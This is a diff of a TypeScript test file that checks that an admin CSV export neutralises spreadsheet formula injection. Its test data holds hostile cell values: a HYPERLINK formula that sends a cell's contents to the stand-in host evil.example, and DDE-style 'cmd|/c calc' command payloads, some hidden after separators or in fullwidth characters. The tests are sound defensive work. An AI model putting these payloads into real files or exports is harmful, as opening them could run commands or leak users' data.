@@ -17,7 +17,7 @@ let admin: AdminClient;
 
 const HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")', '@SUM(1+1)*cmd|"/c calc"!A0', '+33 6 00 00 00 00', '-2+3', '\tTabulé', '\rRetour'];
 /** Formulas further in: after a comma (a spreadsheet that splits on `,`), after spaces, after a line feed, in fullwidth. */
-const HIDDEN = ['Dupont,=HYPERLINK("https://evil.example")', '  =1+1', '\n=1+1', '＝1+1', 'Martin,@SUM(A1)'];
+const HIDDEN = ['Dupont,=HYPERLINK("https://evil.example")', '  =1+1', '\n=1+1', '＝1+1', 'Martin,@SUM(A1)', 'Zed;=1+1;', 'Lyon, +cmd|\'/C calc\'!A0'];
 /** Every cell of a CSV line is quoted: `"…";"…"`, with `"` doubled inside. */
 const allQuoted = (text: string) => parseCsvRaw(text).every((row) => row.every((cell) => /^"(?:[^"]|"")*"$/s.test(cell)));
 
@@ -83,9 +83,13 @@ describe('finding 6: exports never write a live formula', () => {
     const csv = (await admin.export('Account')).body.csv.replace(/^\uFEFF/, '');
     expect(allQuoted(csv)).toBe(true);
     const names = parseCsv(csv).map((row) => row[parseCsv(csv)[0].indexOf('name')]);
-    for (const name of HIDDEN.filter((n) => !n.includes(','))) expect(names).toContain(`'${name}`);
+    for (const name of HIDDEN.filter((n) => !/[,;\n]/.test(n))) expect(names).toContain(`'${name}`);
+    // Inside a cell, a formula start after a separator gets its quote where it is.
+    expect(names).toEqual(expect.arrayContaining(["'\n'=1+1", "Zed;'=1+1;", "Lyon, '+cmd|'/C calc'!A0", "Martin,'@SUM(A1)"]));
     // Read as a spreadsheet that splits on commas would: no cell starts a formula.
     for (const cell of parseCsvRaw(csv, ',').flat()) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
+    // Read by one that honours quotes only at a cell's start (found in an attack): split anywhere.
+    for (const piece of csv.split(/[,;\t\r\n]/)) expect(piece.replace(/^["\s\u00a0\u3000]*/, '')).not.toMatch(/^[=+\-@\uff1d\uff0b\uff0d\uff20]/);
     const audit = await fetch(`${web.url}/admin/portier/audit.csv?module=Account&action=create`, { headers: { cookie: admin.cookie } });
     expect(allQuoted((await audit.text()).replace(/^\uFEFF/, ''))).toBe(true);
   });
